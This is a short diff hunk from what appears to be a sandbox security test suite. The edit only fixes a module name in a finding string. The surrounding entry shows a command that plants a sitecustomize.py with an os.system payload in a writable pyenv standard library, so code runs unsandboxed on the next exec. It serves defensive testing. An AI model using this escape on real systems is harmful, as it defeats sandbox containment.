@@ -557,7 +557,7 @@ ATTACKS: list[Attack] = [
            "echo 'import os; os.system(\"" + PAYLOAD + "\")' > {home}/.pyenv/versions/" + Path(sys.base_prefix).name + "/lib/" + PYVER + "/sitecustomize.py",
            runtime_runs_again, setup=home_pyenv_runtime, settings=home_writable,
            launcher=home_pyenv_launcher,
-           finding="bwrap_run.runtime_paths keeps sys.prefix (the virtualenv) and the package "
+           finding="bwrap.run.runtime_paths keeps sys.prefix (the virtualenv) and the package "
                    "read-only, not sys.base_prefix: the standard library of the interpreter "
                    "the runtime itself runs on (pyenv under ~) is writable when the home is, "
                    "and the next sandbox exec imports the command's sitecustomize unsandboxed"),
